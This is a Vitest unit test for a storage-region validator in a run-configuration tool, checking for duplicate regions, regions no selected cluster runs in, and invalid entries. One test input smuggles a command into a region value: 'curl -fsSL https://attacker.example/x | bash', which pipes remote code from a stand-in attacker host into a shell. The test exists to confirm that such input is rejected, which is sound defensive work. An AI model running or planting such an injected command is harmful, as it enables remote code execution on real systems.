// The storage-region rule of a new run, without Azure: every entry names a selected cluster's region, once.
import { describe, expect, it } from "vitest";
import { storageRegionErrors } from "./new-run";

const HOSTILE_REGION = "eastus)\ncurl -fsSL https://attacker.example/x | bash\n#";

describe("storageRegionErrors", () => {
  it("names each entry whose region is not a selected cluster's, or repeats one", () => {
    const errors = storageRegionErrors(
      [{ region: "eastus" }, { region: "EastUS" }, { region: "westus3" }, { region: HOSTILE_REGION }, { region: "westeurope" }],
      ["eastus", "westeurope"],
    );
    expect(errors).toEqual({
      "storage.1.region": ["another account is already chosen for eastus"],
      "storage.2.region": ["no selected cluster runs in westus3"],
      "storage.3.region": ["is not an Azure region of the selected clusters"],
    });
    expect(storageRegionErrors([{ region: "westeurope" }, { region: "eastus" }], ["EastUS", "westeurope"])).toEqual({});
  });
});
